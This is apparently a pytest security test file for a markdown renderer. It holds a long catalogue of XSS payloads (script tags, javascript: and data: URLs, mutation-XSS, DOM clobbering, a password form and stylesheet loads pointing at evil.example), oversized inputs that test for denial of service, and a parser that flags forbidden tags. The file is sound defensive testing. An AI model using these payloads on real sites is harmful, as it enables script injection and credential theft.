"""What has been tried against `render_markdown`; numbers are those of the attack catalogue."""

import re
import time
from html.parser import HTMLParser

import pytest

from hub.kernel.markdown import render_markdown

VOID = {"br", "hr", "img", "input", "source", "col"}
GOOD_SCHEMES = ("http://", "https://", "mailto:")
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
URL_ATTRIBUTES = {"href", "src", "poster", "srcset", "action", "formaction", "cite", "background"}
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "button", "textarea", "select", "base",
    "meta", "link", "svg", "math", "template", "noscript", "title", "frame", "frameset", "portal",
    "marquee", "xmp", "plaintext", "noembed", "applet", "dialog",
}  # fmt: skip


class Judge(HTMLParser):
    """Reads HTML as a browser would, roughly, and writes down what should not be there."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.faults.append(f"<{tag}>")
        for name, given in attrs:
            value = (given or "").strip()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "ping", "target"}:
                self.faults.append(f"{tag} {name}")
            if name in URL_ATTRIBUTES:
                # Browsers skip white space and control characters where a scheme begins.
                bare = "".join(letter for letter in value.lower() if letter > " ")
                if SCHEME.match(bare) and not bare.startswith(GOOD_SCHEMES):
                    self.faults.append(f"{tag} {name}={value}")
            if name in {"id", "name"} and not value.startswith("user-content-"):
                self.faults.append(f"{tag} {name}={value}")


def faults(html):
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


S67 = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](y)',
    '![x](y "a\\" onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!> --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=text name=csrfmiddlewaretoken>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video poster=javascript:alert(1) onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<audio src=javascript:alert(1) onerror=alert(1)></audio>",
    "<picture><source srcset='javascript:alert(1) 1x'><img srcset=x onerror=alert(1)></picture>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a id=location name=cookie>x</a>",
    "<img id=main><img name=getElementById>",
    "<form id=x tabindex=0 onfocus=alert(1)></form>",
    "<a target=_blank href=https://evil.example>x</a>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<template><img src=x onerror=alert(1)></template>",
    "<dialog open>x</dialog>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "# <img src=x onerror=alert(1)>",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
    "> [!<img src=x onerror=alert(1)>]\n> x",
    "| <img src=x onerror=alert(1)> |\n|--|\n| [x](javascript:alert(1)) |",
    "http://a.example/'onmouseover='alert(1)",
    "https://a.example/<script>alert(1)</script>",
    '<img src="x\u2028onerror=alert(1)">',
    '<a href="https://a.example/"onclick="alert(1)">x</a>',
    "<div\x0conclick=alert(1)>x</div>",
    "<style>*{}</style\n><img src=x onerror=alert(1)>",
    "<style></style/><script>alert(1)</script>",
    "<sty<style></style>le>x",
    "<scr<script></script>ipt>alert(1)</scr<script></script>ipt>",
]  # fmt: skip

S68 = [
    r"$$\href{javascript:alert(1)}{x}$$",
    r"$$</span><img src=x onerror=alert(1)>$$",
    "\\\\(<script>alert(1)</script>\\\\)",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "<span class=math data-math='x\" onclick=alert(1)'>x</span>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "```python' onmouseover='alert(1)\nx\n```",
    "```mermaid\ngraph TD; a-->b; click a javascript:alert(1)\n```",
]


@pytest.mark.parametrize("text", S67)
def test_render_markdown__s67_nothing_runs(text):
    assert faults(render_markdown(text)) == []


@pytest.mark.parametrize("text", S68)
def test_render_markdown__s68_formulas_and_code_are_text(text):
    assert faults(render_markdown(text)) == []


def test_judge__sees_what_it_is_for():
    seen = faults("<img src=x onerror=y><script></script><a href='javascript:x' id=main>")

    assert seen == ["img onerror", "<script>", "a href=javascript:x", "a id=main"]


def test_render_markdown__the_hubs_own_classes_are_not_for_sale():
    html = render_markdown('<div class="card skip-link math site-header">x</div>')

    assert '<div class="math">' in html


def test_render_markdown__front_matter_is_never_shown():
    html = render_markdown("---\ntitle: <script>alert(1)</script>\n---\nhello")

    assert html == "<p>hello</p>\n"


S73 = {
    "brackets": "[" * 1_000_000,
    "brackets, small": ("[" * 400 + "\n") * 95,
    "stars": "*a " * 13_000,
    "nested quotes": "> " * 20_000 + "x",
    "quote per line": "\n".join("> " * 20 for _ in range(4_000)),
    "nested lists": "\n".join("  " * n + "- x" for n in range(2_000)),
    "table of 2 MB": "|a" * 1_000_000,
    "unclosed elements": "<div>" * 20_000,
    "unclosed letters": "<b>x " * 13_000,
    "misnested": "<b><i></b></i>" * 3_000,
    "decoys": "<div></x>" * 10_000,
    "scripts without end": "<script>" * 50_000,
    "dollars": "$$ a\n" * 19_000,
    "equal headings": "# a\n" * 5_000,
    "links": "http://a.example " * 4_000,
    "comments": "<!--" * 10_000,
    "entities": "&#" * 20_000,
    "emails": "a@b.c " * 60_000,
    "one long word": "a" * 400_000,
    "tasks": "- [ ] a\n" * 8_100,
    "fewer tasks": "- [ ] a\n" * 6_000,
    "table of 12,000 rows": "|a|\n|-|\n" + "|b|\n" * 12_000,
    "table of 5,000 rows": "|a|\n|-|\n" + "|b|\n" * 5_000,
    "rows without bars": "a|b\n-|-\n" + "c\n" * 50_000,
    "rows with other line ends": "a|b\r-|-\r" + "c\r" * 50_000,
    "rows with Windows' line ends": "a|b\r\n-|-\r\n" + "c\r\n" * 50_000,
    "padded rows": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "c\n" * 20_000,
    "many tables": "|a|\n|-|\n|b|\n\n" * 4_000,
    "numbered items": "1. a\n" * 70_000,
    "fewer items": "- a\n" * 8_500,
    "empty items": "-\n" * 90_000,
    "footnote references": "[^a]" * 9_000 + "\n\n[^a]: x",
    "fewer references": "[^a]" * 4_900 + "\n\n[^a]: x",
    "footnotes": "".join(f"[^{n}] [^{n}]: x\n\n" for n in range(3_000)),
    "underlined headings": "a\n==\n" * 40_000,
    "fewer headings": "a\n==\n" * 12_000,
    "lines": "a\n" * 190_000,
    "fewer lines": "a\n" * 65_000,
    "paragraphs": "a\n\n" * 12_000,
    "line breaks": "a  \n" * 22_000,
    "quotes": "> a\n\n" * 40_000,
    "fewer quotes": "> a\n\n" * 9_000,
    "rules": "---\n\n" * 50_000,
    "lazy lines": "> a\n" + "b\n" * 65_000,
    "fences": "```python\nx = 1\n```\n" * 4_000,
    "endless fences": "```mcschema\n<!--\n```\n```tnt\na\n```\n",
    "markers": "a|b\n" + "- " * 24_000 + "x\n",
    "backticks": "".join("`" * n + " " for n in range(1, 280)),
}


@pytest.mark.parametrize("name", S73)
def test_render_markdown__s73_answers_soon(name):
    started = time.process_time()

    render_markdown(S73[name])

    # One second on an idle core is the aim; tests share theirs with others.
    assert time.process_time() - started < 3


def test_render_markdown__s73_too_large_is_shown_as_written():
    html = render_markdown("<b>" + "x\n" * 300_000)

    assert html.startswith('<pre class="markdown__plain">&lt;b&gt;x')


def test_render_markdown__an_honest_long_card_is_rendered():
    card = "# Card\n\n" + "\n".join(
        f"## Part {part}\n\n{'Some words about it. ' * 20}\n\n"
        + "- an item with `code` in it\n" * 14
        + "- [x] done\n\n"
        + "| name | value | note |\n|---|---|---|\n"
        + "| a | 1 | x |\n" * 8
        + "\n"
        + "```python\nx = 1\n```\n\n" * 2
        for part in range(100)
    )
    assert len(card) > 90_000

    html = render_markdown(card)

    assert "markdown__plain" not in html
    assert html.count("<li") == 1_500
    assert html.count("<tr>") == 900
    assert html.count("tok-mi") == 200
